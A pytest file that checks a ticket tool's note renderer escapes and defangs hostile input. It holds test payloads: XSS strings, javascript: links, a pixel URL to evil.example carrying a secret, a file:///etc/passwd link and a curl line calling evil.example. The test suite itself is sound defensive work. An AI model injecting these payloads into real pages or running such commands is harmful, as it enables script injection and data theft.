"""The note's HTML: what is said in it, and what hostile text can't do to it."""

from __future__ import annotations

import re
import time
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from processors.deliver.fakes import FakeFeedbackLinks
from processors.deliver.marker import note_key, shown
from processors.deliver.ports import Ending
from processors.deliver.rendering import MAX_NOTE_BYTES, NoteRenderer, cleaned, markdown_to_html
from schemas.events import Citation, EnhancementSynthesized, Writer
from tests.unit.processors.deliver.conftest import START, synthesized

RENDERER = NoteRenderer(FakeFeedbackLinks())
TAGS = (
    {"a", "b", "strong", "em", "small", "code", "pre", "br", "hr", "p", "blockquote", "ul", "ol", "li"}
    | {"h3", "h4", "h5", "h6"}
    | {"table", "thead", "tbody", "tr", "th", "td"}
)
MARKER = note_key(synthesized()).marker
ALLOWED = frozenset({"https://a.example"})


class Elements(HTMLParser):
    """Every tag with its attributes, and the text, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def links(self) -> list[str | None]:
        return [value for tag, name, value in self.attributes if (tag, name) == ("a", "href")]


def rendered(event: EnhancementSynthesized, earlier: Ending | None = None) -> Elements:
    return Elements(RENDERER.render(event, MARKER, earlier).html)


def of(text: str) -> Elements:
    return rendered(synthesized(text=text, citations=()))


def test_a_note_names_its_writer_shows_the_text_the_sources_and_where_to_answer() -> None:
    event = synthesized()
    note = rendered(event)
    assert "written by the language model gpt-4-turbo" in note.text
    assert "ticketstream" in note.text.split("\n")[0]
    assert "Likely cause" in note.text
    assert note.tags.count("li") == 3
    assert "[1] Spooler stops (docs)" in note.text
    assert note.links == ["https://docs.example.com/kb/7", f"https://ticketstream.example/f/{event.enhancement_id}"]
    assert shown(MARKER) in note.text


def test_the_built_in_writer_and_a_degraded_text_are_named_plainly() -> None:
    note = rendered(synthesized(writer=Writer.BUILTIN, model=None, degraded="the model was away for 60 s"))
    assert "the built-in writer, without a language model" in note.text
    assert "Less than usual: the model was away for 60 s" in note.text
    assert "Less than usual" not in rendered(synthesized()).text


def test_a_later_note_says_which_it_replaces() -> None:
    assert "replaces our note of 2026-11-20 09:00 UTC" in rendered(synthesized(), Ending("x", START, note_id="7")).text


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=https://evil.example></iframe>",
        "<a href=https://evil.example>x</a>",
        "<!-- comment --><style>*{display:none}</style>",
        "<form action=https://evil.example><input name=password></form>",
        "<div style='position:fixed;inset:0'>x</div>",
        "</p></div></body><script src=//evil.example></script>",
        "![pixel](https://evil.example/p.png?d=secret)",
        "![a][b]\n\n[b]: https://evil.example/p.png",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java\nscript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:x)",
        "[click](//evil.example)",
        "[click](https://evil.example)",
        "[click](https://docs.example.com@evil.example/kb/7)",
        '[click](https://docs.example.com/kb/7 "title\' onmouseover=alert(1)")',
        "<https://evil.example>",
        "[a]: https://evil.example\n\n[a]",
        "[![x](https://evil.example/i.png)](https://evil.example)",
        '[x](https://evil.example "\'><script>alert(1)</script>")',
        "```html\n<script>alert(1)</script>\n```",
        '```"><script>alert(1)</script>\ncode\n```',
        "`<img src=x>`",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "| a | b |\n|---|---|\n| <img src=x onerror=y> | [x](javascript:1) |",
        "<math><mtext></p><img src=x onerror=alert(1)>",
        "\x00<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
    ],
)
def test_hostile_text_becomes_plain_text(hostile: str) -> None:
    event = synthesized(text=f"before\n\n{hostile}\n\nafter")
    note = rendered(event)
    assert set(note.tags) <= TAGS
    own = {"https://docs.example.com/kb/7", f"https://ticketstream.example/f/{event.enhancement_id}"}
    assert set(note.links) <= own
    assert {(tag, name) for tag, name, _ in note.attributes} <= {("a", "href"), ("a", "rel")}
    assert "before" in note.text
    assert "after" in note.text
    assert shown(MARKER) in note.text


@pytest.mark.parametrize(
    "field",
    ["model", "degraded"],
)
def test_hostile_names_become_plain_text(field: str) -> None:
    note = rendered(synthesized(**{field: "<img src=x onerror=alert(1)>"}))
    assert "img" not in note.tags
    assert "<img src=x" in note.text


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "https://",
        "https://[",
        'https://x.example/"onclick="y',
        "https://x.example/\nx",
    ],
)
def test_a_citation_with_a_strange_link_is_only_named(link: str) -> None:
    note = rendered(synthesized(citations=(Citation(1, "docs", "kb", "<b>Title</b>", link),)))
    assert "[1] <b>Title</b> (docs)" in note.text
    assert note.links == [f"https://ticketstream.example/f/{synthesized().enhancement_id}"]


def test_reading_markdown_alone_leaves_no_strange_link_and_no_picture() -> None:
    html = markdown_to_html(
        "[x](https://evil.example) ![y](https://evil.example/i.png) [z](https://a.example)", ALLOWED
    )
    note = Elements(html)
    assert (note.links, note.tags) == (["https://a.example"], ["p", "a"])


def test_cleaning_alone_leaves_no_strange_link_and_no_picture() -> None:
    hostile = (
        "<a href='https://evil.example' onclick=x>x</a><img src=y><a href=https://a.example>z</a><script>1</script>"
    )
    note = Elements(cleaned(hostile, ALLOWED))
    assert (note.links, note.tags) == (["https://a.example"], ["a", "a"])


def test_a_cited_link_in_the_text_stays_a_link() -> None:
    note = rendered(synthesized(text="See [the article](https://docs.example.com/kb/7)."))
    assert note.links.count("https://docs.example.com/kb/7") == 2


def test_a_picture_leaves_its_description_and_a_strange_link_its_words() -> None:
    note = of("![diagram](https://evil.example/x.png) and [the words](https://evil.example)")
    assert "diagram and the words" in note.text


@pytest.mark.parametrize(
    ("written", "shown_as"),
    [
        ("https://evil.example/a.html?b=c", "https[:]//evil[.]example/a.html?b=c"),
        ("HTTPS://Evil.Example", "HTTPS[:]//Evil[.]Example"),
        (
            "ftp://evil.example and ms-word:ofe|u|http://evil.example",
            "ftp[:]//evil[.]example and ms-word:ofe|u|http[:]//evil[.]example",
        ),
        ("see www.evil.example/x", "see www[.]evil[.]example/x"),
        ("(//evil.example)", "([//]evil[.]example)"),
        ("https:/*/evil.example*", "https[:]//evil[.]example"),
        ("ht*tps*://evil.example", "https[:]//evil[.]example"),
        ("https\\://evil.example", "https[:]//evil[.]example"),
        ("https&#58;//evil.example", "https[:]//evil[.]example"),
        ("https&colon;&sol;&sol;evil.example", "https[:]//evil[.]example"),
        ("`curl http://evil.example`", "curl http[:]//evil[.]example"),
        ("[https://evil.example](https://a.example)", "https[:]//evil[.]example"),
        ("https://a.example@evil.example", "https[:]//a[.]example@evil[.]example"),
        ("https://a.example.evil.example", "https[:]//a[.]example[.]evil[.]example"),
        ("https://a.example*x.evil.example*", "https[:]//a[.]examplex.evil.example"),
        ("https://a.example/../x", "https[:]//a[.]example/../x"),
        ("file://evil.example/share", "file[:]//evil[.]example/share"),
    ],
)
def test_an_address_that_is_no_evidence_is_written_so_that_no_desk_or_mail_reader_makes_a_link_of_it(
    written: str, shown_as: str
) -> None:
    assert Elements(markdown_to_html(written, ALLOWED)).text.strip() == shown_as


@pytest.mark.parametrize(
    "text", ["https://a.example", "See https://a.example.", "(https://a.example), then", "**https://a.example**"]
)
def test_an_address_that_is_evidence_stays_as_it_is(text: str) -> None:
    assert Elements(markdown_to_html(text, ALLOWED)).text.strip() == text.replace("*", "")


@pytest.mark.parametrize(
    "text", ["a // b", "at 10:30", "10.0.0.1:8080", "C:\\data", "srv01.corp.example", "a: /b", "1/2"]
)
def test_what_is_no_address_stays_as_it_is(text: str) -> None:
    assert Elements(markdown_to_html(text, ALLOWED)).text.strip() == text.replace("\\\\", "\\")


def test_an_address_in_a_name_is_no_link_either() -> None:
    note = rendered(synthesized(citations=(Citation(1, "docs", "kb", "Log in at https://evil.example", None),)))
    assert "[1] Log in at https[:]//evil[.]example (docs)" in note.text


HOSTILE_PARTS = st.sampled_from(
    [
        *(
            "<",
            ">",
            "</",
            "/>",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "&lt;",
            "&#60;",
            "&amp;",
            "&colon;",
            "&Tab;",
            "\0",
            "\ufdd0",
        ),
        *(
            "<a href=",
            "<img src=x onerror=",
            "<svg onload=",
            "<base href=",
            "<form action=",
            "<style>",
            "<iframe src=",
            "<b style=",
        ),
        *(
            "[x](",
            "![x](",
            "[x]: ",
            "[x]",
            "[x][x]",
            ")",
            "]",
            "`",
            "```",
            "~~~",
            "\n\n",
            "\n",
            " ",
            "*",
            "**",
            "_",
            "> ",
            "- ",
            "| ",
            "\\",
        ),
        *(
            "javascript:alert(1)",
            "data:text/html,x",
            "//evil.example",
            "https://evil.example",
            "https:/",
            "/evil.example",
            "www.",
        ),
        *(
            "https://docs.example.com/kb/7",
            "https://docs.example.com/kb/7@evil.example",
            "mailto:x@evil.example",
            "HtTpS://e.example",
        ),
        *('"', "'", "ticketstream", ":", "b" * 24, "\u200b", "\u202e", "x", "é"),
    ]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(HOSTILE_PARTS, max_size=25).map("".join) | st.text(max_size=200))
def test_no_text_brings_a_tag_an_attribute_a_link_or_a_marker_of_its_own(text: str) -> None:
    event = synthesized(text=text, citations=(Citation(1, "docs", "kb", text, "https://docs.example.com/kb/7"),))
    html = RENDERER.render(event, MARKER, None).html
    note = Elements(html)
    assert set(note.tags) <= TAGS
    assert {(tag, name) for tag, name, _ in note.attributes} <= {("a", "href"), ("a", "rel")}
    assert set(note.links) <= {
        "https://docs.example.com/kb/7",
        f"https://ticketstream.example/f/{event.enhancement_id}",
    }
    assert re.findall("ticketstream:[0-9a-f]{24}", unescape(html), re.IGNORECASE) == [shown(MARKER)]
    addresses = re.findall(r"\w+://[^\s<>]*", note.text)
    assert {address.rstrip(".,;:!?)]}\"'*") for address in addresses} <= {"https://docs.example.com/kb/7"}


def test_a_picture_that_is_a_link_leaves_its_description() -> None:
    html = markdown_to_html('[![a "picture"](https://evil.example/i.png)](https://evil.example)', ALLOWED)
    assert (Elements(html).text.strip(), Elements(html).tags) == ('a "picture"', ["p"])


@pytest.mark.parametrize(
    "raw",
    [
        "<b>words</b>",
        "<!-- words",
        "<script>words",
        "<pre>words",
        "<?php words",
        "</p><div>words</div>",
        "a <b c='d'>words</b>",
        "`<b>` words",
    ],
)
def test_raw_html_is_shown_as_it_is_written_and_what_follows_it_is_still_read(raw: str) -> None:
    note = Elements(markdown_to_html(f"{raw}\n\n**after** < 3", ALLOWED))
    assert note.text.split() == [*raw.replace("`", "").split(), "after", "<", "3"]
    assert set(note.tags) <= {"p", "strong", "code"}
    assert note.tags.count("strong") == 1


def test_an_address_in_angle_brackets_is_shown_without_them() -> None:
    note = Elements(
        markdown_to_html("Ask <ann@msp.example> or <https://a.example> or <https://evil.example>.", ALLOWED)
    )
    assert note.text.strip() == "Ask ann@msp.example or https://a.example or https[:]//evil[.]example."
    assert note.links == ["https://a.example"]


@pytest.mark.parametrize("letter", ["\ufdd0", "\0"])
def test_what_is_no_character_cannot_stand_for_an_angle_bracket(letter: str) -> None:
    assert of(f"{letter}b>x").text.count("\ufffdb>x") == 1


@pytest.mark.parametrize("text", ["> " * 21 + "x", "- " * 21 + "x", "*a **a " * 30 + "a** a*" * 30])
def test_what_stands_too_deep_in_each_other_is_shown_as_it_is_written(text: str) -> None:
    note = Elements(markdown_to_html(text, ALLOWED))
    assert (note.text, note.tags) == (text, ["pre"])


def test_lists_may_stand_in_each_other() -> None:
    note = Elements(markdown_to_html("".join("  " * depth + f"- {depth}\n" for depth in range(20)), ALLOWED))
    assert note.tags.count("ul") == 20


@pytest.mark.parametrize(
    "quoted",
    [
        "ticketstream:{}",
        "TicketStream:{}",
        "ticketstream&#58;{}",
        r"ticketstream\:{}",
        "ticketstream:[{}](https://x.example)",
        "ticketstream*:*{}",
        "ticketstream:*{}*",
        "ticketstream&amp;#58;{}",
        "ticketstream&amp;colon;{}",
        "**ticketstream**:`{}`",
        "<!-- ticketstream:{} -->",
    ],
)
def test_another_notes_marker_in_the_text_is_not_taken_for_that_note(quoted: str) -> None:
    other = "b" * 24
    text = f"Earlier note: {quoted.format(other)}"
    citation = Citation(1, "docs", "kb", quoted.format(other), None)
    note = RENDERER.render(synthesized(text=text, citations=(citation,)), MARKER, None)
    assert other in note.html
    for seen in (note.html, unescape(note.html), unescape(unescape(note.html)), Elements(note.html).text):
        assert re.search(f"ticketstream:{other}", seen, re.IGNORECASE) is None
    assert note.html.count(shown(MARKER)) == 1


def test_a_note_is_looked_for_by_all_that_is_shown_of_its_marker() -> None:
    note = RENDERER.render(synthesized(), MARKER, None)
    assert note.marker == shown(MARKER)
    assert note.marker in note.html


def test_headings_begin_below_the_desks_own() -> None:
    assert [tag for tag in of("# one\n\n## two\n\n### three").tags if tag.startswith("h") and tag != "hr"] == [
        "h3",
        "h4",
        "h5",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "word " * 50_000,
        "<&\"'" * 50_000,
        "> " * 20_000 + "x",
        "[" * 50_000,
        "![" * 20_000,
        "*a **a " * 20_000,
        "`" * 50_000,
        "- " * 20_000,
        "| a " * 10_000 + "|\n" + "|---" * 10_000 + "|",
        "ticketstream:" * 10_000,
    ],
)
def test_a_note_stays_small_and_quick_and_keeps_its_marker(text: str) -> None:
    started = time.perf_counter()
    note = RENDERER.render(synthesized(text=text), MARKER, None)
    assert time.perf_counter() - started < 5
    assert len(note.html.encode()) <= MAX_NOTE_BYTES
    assert shown(MARKER) in note.html


def test_a_text_that_was_cut_says_so() -> None:
    assert "cut here because of its length" in of("word " * 50_000).text
    assert "cut here" not in of("word").text
